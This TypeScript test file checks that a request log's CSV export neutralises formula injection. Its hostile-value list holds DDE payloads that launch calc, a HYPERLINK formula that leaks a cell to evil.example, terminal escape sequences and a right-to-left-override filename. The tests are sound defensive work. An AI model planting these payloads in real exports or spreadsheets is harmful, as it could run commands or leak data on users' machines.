/**
 * Attack suite: the request log's CSV export (renderer/features/request-log/export.ts)
 * against values a client chooses (path, User-Agent, Referer, and the messages built from
 * them). The file the window downloads (BOM + toCsv) is written to disk and read back by
 * Python's `csv` module twice:
 *
 *  - with `,` (the file's own separator): every cell must round-trip to its visible,
 *    neutralised text (csvCellText), and no cell may start with a formula character;
 *  - with `;` (how a spreadsheet whose list separator is `;` splits the same file): the
 *    cells come out mangled, as they would there, but still none may start with a formula
 *    character, once the spaces and quotes a reader may strip are passed over.
 *
 * And no raw control byte may reach the file: only the CRLF between records.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvCellText, csvRow, toCsv } from '../../renderer/features/request-log/export';
import type { RequestLogEntry } from '../../server/log';

/** Hostile values, each tried as path, User-Agent, Referer and message. */
const HOSTILE: readonly string[] = [
  "x;=cmd|' /C calc'!A0;", // the issue's: a formula after the `;` list separator
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  @1',
  '"=1+1"',
  '""=1+1',
  'a,=1+1',
  'a,"=1+1',
  'a;"=1+1',
  'a; -1+1',
  'a;;=1',
  ';=1',
  ',=1',
  '=1;=2,=3;+4,-5;@6',
  "'=already quoted",
  '\x1b[31mred\x1b[0m\x1b]0;title\x07',
  '\x00nul\x01\x7f\x85\x9b',
  'evil\u202etxt.exe',
  'C:\\dir\\file',
  'say "hi", then; leave',
  'line1\r\nline2',
  'é ✓ 日本',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  '',
];

const FORMULA_START = new Set(['=', '+', '-', '@', '\t', '\r']);

function hostileEntries(): RequestLogEntry[] {
  return HOSTILE.map((v, i) => ({
    id: i + 1,
    kind: 'request',
    time: Date.UTC(2026, 10, 22, 14, 0, i),
    connectionId: i + 1,
    clientAddress: '192.0.2.7',
    clientPort: 50000 + i,
    method: 'GET',
    path: v,
    protocol: 'HTTP/1.1',
    status: 200,
    bytesSent: 12,
    bodyBytes: 2,
    headerBytes: 10,
    expectedBytes: 2,
    outcome: 'done' as const,
    durationMs: 1.5,
    userAgent: v,
    referer: v === '' ? null : v,
    message: `"GET ${v} HTTP/1.1" 200 -`,
  }));
}

const dir = mkdtempSync(join(tmpdir(), 'servedir-csv-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Reads `file` with Python's csv module and the given delimiter: rows of cells. */
function pythonRead(file: string, delimiter: ',' | ';'): string[][] {
  const script = [
    'import csv, json, sys',
    "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:",
    '    rows = list(csv.reader(f, delimiter=sys.argv[2]))',
    'json.dump(rows, sys.stdout)',
  ].join('\n');
  return JSON.parse(execFileSync('python3', ['-c', script, file, delimiter], { encoding: 'utf8' })) as string[][];
}

/** The first character a reader that strips spaces and quotes would see. */
const firstSeen = (cell: string): string => cell.replace(/^[ "]+/, '').charAt(0);

describe('CSV export read back by Python csv', () => {
  const entries = hostileEntries();
  // Exactly what the window downloads (request-log.tsx): a BOM, then toCsv.
  const file = join(dir, 'log.csv');
  const csv = '\ufeff' + toCsv(entries);
  writeFileSync(file, csv, 'utf8');

  it(`',' dialect: all ${HOSTILE.length} hostile rows round-trip, cell by cell, to the neutralised text`, () => {
    const rows = pythonRead(file, ',');
    expect(rows).toHaveLength(1 + entries.length);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    let cells = 0;
    let neutralised = 0;
    entries.forEach((e, i) => {
      const row = rows[i + 1]!;
      expect(row).toHaveLength(CSV_COLUMNS.length);
      const fields = [e.path, e.userAgent, e.referer, e.message];
      const got = [row[4], row[9], row[10], row[13]];
      fields.forEach((f, k) => {
        expect(got[k], JSON.stringify(f)).toBe(csvCellText(f));
        if (got[k] !== (f ?? '')) neutralised++;
      });
      for (const cell of row) {
        cells++;
        expect(FORMULA_START.has(firstSeen(cell)), `row ${i + 1}: ${JSON.stringify(cell)}`).toBe(false);
      }
    });
    console.log(`[csv] ',' dialect: ${rows.length} rows, ${cells} cells read back; ${neutralised} hostile cells changed (escaped or neutralised), none starts a formula`);
    expect(cells).toBe(entries.length * CSV_COLUMNS.length);
    // The issue's own example, as a spreadsheet shows it: text, with the formula defused.
    expect(rows[1]![9]).toBe("x;'=cmd|' /C calc'!A0;");
  });

  it("';' dialect: however the rows split, no cell starts a formula", () => {
    const rows = pythonRead(file, ';');
    let cells = 0;
    for (const row of rows) {
      for (const cell of row) {
        cells++;
        expect(FORMULA_START.has(firstSeen(cell)), JSON.stringify(cell)).toBe(false);
      }
    }
    console.log(`[csv] ';' dialect: ${rows.length} rows split into ${cells} cells; none starts a formula`);
    // The split really happens (it is the attack's premise): more cells than rows.
    expect(cells).toBeGreaterThan(rows.length);
  });

  it('no raw control character reaches the file: only the CRLF that ends each record', () => {
    const body = csv.slice(1).split('\r\n');
    expect(body.at(-1)).toBe('');
    expect(body).toHaveLength(entries.length + 2);
    for (const line of body) expect(line, JSON.stringify(line)).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    // Every cell quoted: each record is "…","…",…,"…".
    for (const line of body.slice(0, -1)) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
  });

  it('the unsafe old form would have failed this check (the test can see the attack)', () => {
    // Unquoted, un-neutralised, the value as the old export wrote it.
    const naive = join(dir, 'naive.csv');
    writeFileSync(naive, "a,x;=cmd|' /C calc'!A0;,b\r\n", 'utf8');
    const cells = pythonRead(naive, ';').flat();
    expect(cells.some((c) => FORMULA_START.has(firstSeen(c)))).toBe(true);
    // And the row builder used by the export is the one tested above.
    expect(csvRow(entries[0]!).split('","')).toHaveLength(CSV_COLUMNS.length);
  });
});
